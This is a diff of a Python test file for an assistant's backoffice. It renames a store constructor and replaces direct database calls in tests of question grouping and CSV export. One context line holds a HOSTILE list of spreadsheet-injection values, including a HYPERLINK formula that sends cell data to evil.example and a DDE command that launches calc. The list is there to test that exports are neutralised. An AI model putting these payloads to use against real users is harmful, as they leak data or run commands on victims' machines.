@@ -11,7 +11,7 @@ from click.testing import CliRunner
 from assistant import Assistant
 from assistant.backoffice import grouping, transcripts
 from assistant.backoffice.backends import Request
-from assistant.backoffice.store import Store
+from assistant.backoffice.store import open_store
 from assistant.channels import csvexport, tables
 from assistant.channels.cli import cli
 from assistant.curation.live import Live
@@ -157,7 +157,7 @@ def test_a_database_with_ungrouped_questions_is_grouped_when_opened(tmp_path):
             [tenant, message, reason, f"2026-01-0{n + 1}T10:00:00+00:00"],
         )
     old.close()
-    store = Store(path)
+    store = open_store(path)
     assert all(r["group_id"] for r in store.rows("unanswered"))
     [crepes, match] = staff.unanswered(store, "exo")
     assert (crepes["count"], crepes["reasons"], crepes["last"]) == (
@@ -166,7 +166,7 @@ def test_a_database_with_ungrouped_questions_is_grouped_when_opened(tmp_path):
         "2026-01-02T10:00:00+00:00",
     )
     assert match["count"] == 1 and [g["count"] for g in staff.unanswered(store, "conex")] == [1]
-    Store(path)  # opening it again groups nothing twice
+    open_store(path)  # opening it again groups nothing twice
     assert sum(g["count"] for g in staff.unanswered(store)) == 4
 
 
@@ -184,7 +184,7 @@ def test_unanswered_groups_are_paged_most_frequent_then_most_recent_first(fresh)
 
 
 def payload_bytes(store) -> int:
-    return store.db.execute("select coalesce(sum(length(payload)), 0) from requests").fetchone()[0]
+    return store.value("select coalesce(sum(length(payload)), 0) from requests")
 
 
 def test_asking_for_a_person_again_and_again_stores_no_copy_of_the_conversation(fresh, converse):
@@ -260,7 +260,7 @@ HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1, "clic")', "+cmd|' /C calc'!A
 def cli_store(bundle, tmp_path, monkeypatch):
     """An assistant on the database the commands read."""
     monkeypatch.setenv("ASSISTANT_DB", str(tmp_path / "cli.db"))
-    return Assistant(bundle, Store(tmp_path / "cli.db"))
+    return Assistant(bundle, open_store(tmp_path / "cli.db"))
 
 
 def test_csv_exports_neutralise_what_a_spreadsheet_would_run(cli_store):
@@ -294,8 +294,8 @@ def test_a_group_started_after_the_comparison_is_joined_not_split(fresh):
     """Questions are compared with the groups before the write lock is taken; a group another
     worker starts meanwhile is still found inside the transaction."""
     store = fresh.store
-    seen = grouping.closest_seen(store.db.conn, "exo", "do you sell bicycles?")
+    seen = grouping.closest_seen(store, "exo", "do you sell bicycles?")
     fresh.backoffice.log_unanswered("exo", "en", "do you sell bicycles", [], "s1")  # another worker, meanwhile
     with store.transaction():
-        grouping.group_question(store.db.conn, "exo", "en", "do you sell bicycles?", "fallback", "2026-12-07", seen)
+        grouping.group_question(store, "exo", "en", "do you sell bicycles?", "fallback", "2026-12-07", seen)
     assert [row["count"] for row in store.rows("unanswered_groups")] == [2]
